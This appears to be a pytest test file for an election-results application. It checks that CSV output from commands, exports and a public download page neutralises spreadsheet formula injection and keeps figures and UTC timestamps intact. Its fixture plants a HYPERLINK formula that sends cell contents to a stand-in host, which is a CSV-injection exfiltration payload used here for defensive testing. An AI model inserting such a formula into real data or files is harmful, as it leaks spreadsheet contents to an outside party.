"""CSV: names that others chose stay texts in a spreadsheet, and figures stay figures."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta, timezone

import pytest

from db.csv_file import write_csv
from db.schema import bureau, department
from tests.support.public_site import PublicSite
from tests.support.result_workflow import ResultWorkflow

FORMULA = '=HYPERLINK("http://there.example/?"&A1,"here")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
FIGURE = re.compile(r"[+-][0-9.]+")


@pytest.fixture
def told(line):
    """Two bureaux of an evil register have reported, one of them wrongly, and one is validated."""
    with line.engine.begin() as connection:
        connection.execute(bureau.update().values(commune=FORMULA, name=f"@{FORMULA}", president=f"-{FORMULA}"))
        connection.execute(department.update().where(department.c.code == "02").values(code=FORMULA))
    line.reported()
    line.identified("00200015").keys("315*4*100*2*120*40*30*16#").keys("3").keys("1")
    workflow = ResultWorkflow(line.engine)
    workflow.paper()
    workflow.validate(workflow.deciders.member)
    workflow.validate(workflow.deciders.second_member)
    return workflow


def cells(text):
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


def is_harmless(cell):
    return not cell.lstrip(" ").startswith(FORMULA_STARTS) or FIGURE.fullmatch(cell)


@pytest.mark.parametrize(
    "arguments",
    [
        ("totals", "--level", "department"),
        ("totals", "--level", "bureau"),
        ("totals", "--level", "department", "--status", "validated"),
        ("totals", "--level", "bureau", "--status", "validated"),
        ("flags",),
        ("reconcile",),
    ],
)
def test_what_a_command_prints_holds_no_formula(told, run, arguments):
    status, out, _ = run(*arguments, "--format", "csv")
    assert status == 0
    assert [cell for cell in cells(out) if not is_harmless(cell)] == []
    assert f"'{FORMULA}" in cells(out) or arguments == ("reconcile",)


@pytest.mark.parametrize("status", ["provisional", "validated"])
def test_an_export_holds_no_formula(told, run, tmp_path, status):
    out = tmp_path / "results.csv"
    assert run("export", "--format", "csv", "--out", str(out), "--status", status)[0] == 0
    written = cells(out.read_text(encoding="utf-8"))
    assert [cell for cell in written if not is_harmless(cell)] == []
    assert f"'{FORMULA}" in written


def test_what_the_public_takes_away_holds_no_formula(told):
    written = cells(PublicSite(told).page(".csv?level=bureau"))
    assert [cell for cell in written if not is_harmless(cell)] == []
    assert f"'{FORMULA}" in written


def row(*values):
    names = [f"column_{place}" for place in range(len(values))]
    out = io.StringIO()
    write_csv(names, [dict(zip(names, values, strict=True))], out)
    header, line = out.getvalue().splitlines()
    assert header == ",".join(names)
    return line


def test_figures_stay_figures():
    assert row(12, -3, 0.25, -0.5) == "12,-3,0.25,-0.5"
    assert row("-12", "+33639981001") == '"-12","+33639981001"'


def test_every_text_is_in_quotes_so_that_no_separator_of_another_country_ends_it():
    assert row("00100014", "Achery; Bureau 1", 'said "no"') == '"00100014","Achery; Bureau 1","said ""no"""'


@pytest.mark.parametrize("text", ["=1", "+a", "-a", "@SUM(1)", "\tx", "\rx", " =1", "+33639981001 =1", "-1+1"])
def test_a_text_that_a_spreadsheet_would_take_for_a_formula_is_marked_as_text(text):
    out = io.StringIO()
    write_csv(["text"], [{"text": text}], out)
    assert list(csv.DictReader(io.StringIO(out.getvalue(), newline=""))) == [{"text": f"'{text}"}]


def test_a_moment_is_in_utc_and_what_is_missing_is_empty():
    moment = datetime(2011, 10, 9, 20, 30, tzinfo=timezone(timedelta(hours=2)))
    assert row(moment, None, moment.astimezone(UTC)) == '"2011-10-09T18:30:00+00:00","","2011-10-09T18:30:00+00:00"'
